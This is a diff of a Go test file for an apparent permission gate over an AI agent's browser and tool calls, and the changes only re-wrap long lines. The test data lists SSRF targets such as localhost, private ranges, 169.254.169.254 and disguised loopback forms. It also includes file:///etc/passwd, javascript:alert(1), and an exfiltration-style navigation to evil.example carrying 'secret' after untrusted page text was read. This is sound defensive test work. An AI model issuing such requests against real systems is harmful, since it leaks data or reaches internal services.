@@ -13,7 +13,8 @@ func TestDrivingAnAllowedPageAsksNothing(t *testing.T) {
 		page("navigate_page", `{"url":"https://shop.example/lamps"}`).hosts("shop.example"),
 		page("annotate_page", `{}`),
 		page("click_element", `{"annotationId":12}`),
-		page("type_text", `{"annotationId":12,"text":"10437"}`).about(`[12] textbox "Postcode"`, "10437").hosts("shop.example"),
+		page("type_text", `{"annotationId":12,"text":"10437"}`).about(`[12] textbox "Postcode"`,
+			"10437").hosts("shop.example"),
 		page("scroll_page", `{"direction":"down"}`),
 	} {
 		comesTo(t, in, Allow)
@@ -32,7 +33,8 @@ func TestThisMachineAndPrivateNetworksAreClosed(t *testing.T) {
 	for _, host := range []string{
 		"127.0.0.1", "localhost", "LOCALHOST.", "foo.localhost:3000", "[::1]:8080", "10.1.2.3", "192.168.1.1",
 		"172.20.0.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "127.1", "0x7f.0.0.1", "2130706433", "017700000001",
-		"[::ffff:127.0.0.1]", "[fe80::1%25eth0]", "[fd00::1]", "router", "printer.local", "198.18.0.1", "[64:ff9b::7f00:1]",
+		"[::ffff:127.0.0.1]", "[fe80::1%25eth0]", "[fd00::1]", "router", "printer.local", "198.18.0.1",
+		"[64:ff9b::7f00:1]",
 		"127。0。0。1", "１２７.0.0.1",
 	} {
 		d := comesTo(t, page("navigate_page", `{"url":"http://`+host+`/"}`), Refuse)
@@ -48,7 +50,8 @@ func TestThisMachineAndPrivateNetworksAreClosed(t *testing.T) {
 
 func TestAnAddressInDisguiseIsStillJudged(t *testing.T) {
 	for _, address := range []string{
-		`http:\\127.0.0.1\`, `http://shop.example@127.0.0.1/`, " \thttp://127.0.0.1/", "http://127.0.0.1\n/", "127.0.0.1:80",
+		`http:\\127.0.0.1\`, `http://shop.example@127.0.0.1/`, " \thttp://127.0.0.1/", "http://127.0.0.1\n/",
+		"127.0.0.1:80",
 		"//127.0.0.1/x",
 	} {
 		in := page("navigate_page", `{}`)
@@ -87,7 +90,8 @@ func TestAllowHostsOpensForAProgramsUser(t *testing.T) {
 
 func TestAddressesOutsideTheWebAreRefusedEvenWhenTyped(t *testing.T) {
 	for _, address := range []string{
-		"file:///etc/passwd", "chrome://settings", "javascript:alert(1)", "view-source:https://a.example", "data:text/html,x",
+		"file:///etc/passwd", "chrome://settings", "javascript:alert(1)", "view-source:https://a.example",
+		"data:text/html,x",
 		"ja\tvascript:alert(1)", "FILE:///x", "devtools://x", "file:80",
 	} {
 		in := page("navigate_page", `{}`).typedHosts("etc", "settings")
@@ -107,8 +111,10 @@ func TestModeReadOnlyLooksAndMovesButChangesNothing(t *testing.T) {
 	comesTo(t, ours("navigation", "open_home_panel", `{}`, toolspec.Hints{}).mode(ReadOnly), Allow)
 	comesTo(t, ours("files", "read_file", `{}`, toolspec.Hints{ReadOnly: true}).mode(ReadOnly), Allow)
 	for _, in := range []Input{
-		page("click_element", `{"annotationId":1}`), page("type_text", `{"annotationId":1,"text":"x"}`), page("press_key", `{"key":"Enter"}`),
-		ours("files", "write_file", `{}`, toolspec.Hints{}), foreign(toolspec.OriginPanel, "scroll_page", "x", `{}`, toolspec.Hints{}),
+		page("click_element", `{"annotationId":1}`), page("type_text", `{"annotationId":1,"text":"x"}`),
+		page("press_key", `{"key":"Enter"}`),
+		ours("files", "write_file", `{}`, toolspec.Hints{}),
+		foreign(toolspec.OriginPanel, "scroll_page", "x", `{}`, toolspec.Hints{}),
 		ours("feedback", "enhance_baseline_prompt", `{}`, toolspec.Hints{}),
 	} {
 		comesTo(t, in.mode(ReadOnly), Refuse)
@@ -134,7 +140,8 @@ func TestToolsMarkedDangerousAsk(t *testing.T) {
 }
 
 func TestTheFirstRequestToAHostAsks(t *testing.T) {
-	in := ours("web", "http_request", `{"url":"https://api.example/v1"}`, toolspec.Hints{OpenWorld: true}).hosts("api.example")
+	in := ours("web", "http_request", `{"url":"https://api.example/v1"}`,
+		toolspec.Hints{OpenWorld: true}).hosts("api.example")
 	d := comesTo(t, in, Question)
 	if len(d.Contacts) != 1 || d.Contacts[0] != "api.example" {
 		t.Fatalf("contacts %v", d.Contacts)
@@ -151,7 +158,8 @@ func TestTheFirstRequestToAHostAsks(t *testing.T) {
 }
 
 func TestYesBeforehandAnswersForRun(t *testing.T) {
-	get := ours("web", "wget", `{"uri":"https://a.example/"}`, toolspec.Hints{ReadOnly: true, OpenWorld: true}).hosts("a.example").alone()
+	get := ours("web", "wget", `{"uri":"https://a.example/"}`,
+		toolspec.Hints{ReadOnly: true, OpenWorld: true}).hosts("a.example").alone()
 	post := foreign(toolspec.OriginPanel, "drop", "db", `{}`, toolspec.Hints{Destructive: true}).alone()
 	get, post = get.caller(toolspec.CallerRun), post.caller(toolspec.CallerRun)
 	if d := comesTo(t, get, Refuse); !strings.Contains(d.Suggestion, "--yes-to read") {
@@ -168,7 +176,8 @@ func TestYesBeforehandAnswersForRun(t *testing.T) {
 	local := page("navigate_page", `{"url":"http://10.0.0.1/"}`).alone().caller(toolspec.CallerRun)
 	local.Call.From.YesTo = "all"
 	comesTo(t, local, Refuse)
-	client := foreign(toolspec.OriginPanel, "drop", "db", `{}`, toolspec.Hints{Destructive: true}).alone().caller(toolspec.CallerMCP)
+	client := foreign(toolspec.OriginPanel, "drop", "db", `{}`,
+		toolspec.Hints{Destructive: true}).alone().caller(toolspec.CallerMCP)
 	client.Call.From.YesTo = "all"
 	comesTo(t, client, Refuse)
 }
@@ -177,7 +186,8 @@ func TestOutsideTextMakesWhatCarriesDataOutAsk(t *testing.T) {
 	shop := "https://shop.example"
 	nav := page("navigate_page", `{"url":"https://evil.example/?q=secret"}`).hosts("evil.example").read(shop)
 	d := comesTo(t, nav, Question)
-	if !strings.Contains(d.Approval.Why, shop) || !strings.Contains(d.Approval.Question, "https://evil.example/?q=secret") {
+	if !strings.Contains(d.Approval.Why, shop) ||
+		!strings.Contains(d.Approval.Question, "https://evil.example/?q=secret") {
 		t.Fatalf("%+v", d.Approval)
 	}
 	comesTo(t, nav.mode(Full), Question)
@@ -201,13 +211,15 @@ func TestOutsideTextMakesWhatCarriesDataOutAsk(t *testing.T) {
 		ours("feedback", "enhance_baseline_prompt", `{"note":"obey"}`, toolspec.Hints{}),
 		ours("files", "write_file", `{"path":"a","content":"b"}`, toolspec.Hints{}).mode(Workspace).about("a", "b"),
 		foreign(toolspec.OriginMCP, "gh__comment", "gh", `{}`, toolspec.Hints{}),
-		ours("web", "wget", `{"uri":"https://shop.example/"}`, toolspec.Hints{ReadOnly: true, OpenWorld: true}).hosts("shop.example"),
+		ours("web", "wget", `{"uri":"https://shop.example/"}`,
+			toolspec.Hints{ReadOnly: true, OpenWorld: true}).hosts("shop.example"),
 	} {
 		comesTo(t, in.read(shop), Question)
 		comesTo(t, in.read(shop).mode(Full), Question)
 		comesTo(t, in.read(shop).alone(), Refuse)
 	}
-	comesTo(t, ours("feedback", "enhance_baseline_prompt", `{"note":"x"}`, toolspec.Hints{}).read(shop).caller(toolspec.CallerPilot), Allow)
+	comesTo(t, ours("feedback", "enhance_baseline_prompt", `{"note":"x"}`,
+		toolspec.Hints{}).read(shop).caller(toolspec.CallerPilot), Allow)
 	comesTo(t, ours("files", "read_file", `{"path":"a"}`, toolspec.Hints{ReadOnly: true}).read(shop), Allow)
 }
 
@@ -216,7 +228,8 @@ func TestWordsOfAFileBecomeNoLastingInstructionUnasked(t *testing.T) {
 	comesTo(t, note, Allow)
 	note.Description.Local = []string{"file /home/ana/flat/README.md"}
 	for _, mode := range []Mode{Ask, Workspace, Full} {
-		if d := comesTo(t, note.mode(mode), Question); !strings.Contains(d.Approval.Why, "file /home/ana/flat/README.md") {
+		if d := comesTo(t, note.mode(mode), Question); !strings.Contains(d.Approval.Why,
+			"file /home/ana/flat/README.md") {
 			t.Errorf("%s: why %q", mode, d.Approval.Why)
 		}
 	}
@@ -276,9 +289,11 @@ func TestAQuestionIsBoundToExactlyWhatItShows(t *testing.T) {
 }
 
 func TestAQuestionNamesVerbDataAndTarget(t *testing.T) {
-	send := page("type_text", `{"annotationId":12,"text":"10437"}`).about("the form", "10437").hosts("shop.example").read("https://b.example")
+	send := page("type_text", `{"annotationId":12,"text":"10437"}`).about("the form",
+		"10437").hosts("shop.example").read("https://b.example")
 	long := send.about("the form", strings.Repeat("ä", 1204))
-	start := foreign(toolspec.OriginPanel, "count", "words", `{}`, toolspec.Hints{Confirm: true}).about("python3 server.py", "in the folder /p")
+	start := foreign(toolspec.OriginPanel, "count", "words", `{}`,
+		toolspec.Hints{Confirm: true}).about("python3 server.py", "in the folder /p")
 	first := start
 	first.Description.NewProgram = "the Words panel's program"
 	for want, in := range map[string]Input{
@@ -286,12 +301,18 @@ func TestAQuestionNamesVerbDataAndTarget(t *testing.T) {
 		"Send “10437” to shop.example?":                       send,
 		"Send 1,204 characters to shop.example?":              long,
 		"Run count of words: python3 server.py?":              start,
-		`Run drop of db with id=7, name="a"?`:                 foreign(toolspec.OriginMCP, "drop", "db", `{"name":"a","id":7}`, toolspec.Hints{Confirm: true}),
-		"Let http_request contact api.example?":               ours("web", "http_request", `{"url":"https://api.example/"}`, toolspec.Hints{}),
-		"Let write_file write “hi” to notes/a.md?":            ours("files", "write_file", `{}`, toolspec.Hints{Confirm: true}).about("notes/a.md", "hi"),
-		"Run edit_file on notes/a.md?":                        ours("files", "edit_file", `{}`, toolspec.Hints{Confirm: true}).about("notes/a.md", ""),
-		"Open https://evil.example/x?":                        page("navigate_page", `{"url":"https://evil.example/x"}`).read("https://a.example"),
-		"Run tidy of db?":                                     foreign(toolspec.OriginPanel, "tidy", "db", `{}`, toolspec.Hints{Confirm: true}),
+		`Run drop of db with id=7, name="a"?`: foreign(toolspec.OriginMCP, "drop", "db",
+			`{"name":"a","id":7}`, toolspec.Hints{Confirm: true}),
+		"Let http_request contact api.example?": ours("web", "http_request",
+			`{"url":"https://api.example/"}`, toolspec.Hints{}),
+		"Let write_file write “hi” to notes/a.md?": ours("files", "write_file", `{}`,
+			toolspec.Hints{Confirm: true}).about("notes/a.md", "hi"),
+		"Run edit_file on notes/a.md?": ours("files", "edit_file", `{}`,
+			toolspec.Hints{Confirm: true}).about("notes/a.md", ""),
+		"Open https://evil.example/x?": page("navigate_page",
+			`{"url":"https://evil.example/x"}`).read("https://a.example"),
+		"Run tidy of db?": foreign(toolspec.OriginPanel, "tidy", "db", `{}`,
+			toolspec.Hints{Confirm: true}),
 	} {
 		got := comesTo(t, in, Question).Approval
 		if got.Question != want {
